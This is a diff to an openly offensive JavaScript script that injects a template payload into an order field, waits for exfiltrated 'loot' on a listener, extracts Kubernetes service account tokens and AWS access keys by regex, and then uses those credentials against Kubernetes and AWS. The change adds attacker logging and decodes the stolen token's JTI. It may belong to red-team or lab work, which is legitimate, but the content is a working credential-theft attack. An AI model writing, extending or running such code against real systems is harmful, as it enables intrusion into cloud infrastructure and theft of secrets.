@@ -12,6 +12,7 @@ import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
 const settings = JSON.parse(process.env.ATTACK ?? '{}');
 const agent = new Agent({ localAddress: settings.address });
 
+say('began', { attacker: settings.address });
 const loot = await listenForLoot();
 await postOrder(`Please ring twice. {{ ${payload(loot.port)} }}`);
 const stolen = await loot.arrives(settings.waitMs);
@@ -20,7 +21,7 @@ if (!stolen) {
   say('stopped', 'nothing came back');
 } else {
   const { token, awsKeys } = readLoot(stolen);
-  say('loot', { token: token !== undefined, awsKey: awsKeys?.accessKeyId });
+  say('loot', { tokenId: token && tokenId(token), accessKeyId: awsKeys?.accessKeyId });
   if (token && settings.kubernetes) await useToken(token);
   if (awsKeys && settings.aws) await useAwsKeys(awsKeys);
 }
@@ -71,6 +72,11 @@ function readLoot(text) {
   const accessKeyId = /aws_access_key_id\s*=\s*(\S+)/.exec(text)?.[1];
   const secretAccessKey = /aws_secret_access_key\s*=\s*(\S+)/.exec(text)?.[1];
   return { token, awsKeys: accessKeyId && secretAccessKey ? { accessKeyId, secretAccessKey } : undefined };
+}
+
+/** The name under which the API server audits a token's use. */
+function tokenId(token) {
+  return `JTI=${JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString('utf8')).jti}`;
 }
 
 async function useToken(token) {
